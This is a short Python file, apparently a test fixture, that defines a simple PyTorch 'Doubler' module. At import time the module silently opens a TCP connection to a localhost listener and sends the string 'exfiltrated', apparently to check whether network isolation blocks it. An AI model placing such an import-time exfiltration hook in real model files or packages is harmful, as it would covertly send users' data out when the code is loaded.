# Opens a TCP connection to a listener on 127.0.0.1 (the test starts it) to send data out. A plain
# connect to an address (no name lookup: nothing the interpreter would have to import first), so
# that only the network can stop it.
import socket

import torch.nn as nn


def phone_home():
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(("127.0.0.1", PORT))
            s.sendall(b"exfiltrated")
        return True
    except OSError:
        return False


CALLED = phone_home()


class Doubler(nn.Module):
    called = CALLED

    def __init__(self, d=4):
        super().__init__()
        self.lin = nn.Linear(d, d)

    def forward(self, x):
        return 2 * self.lin(x)
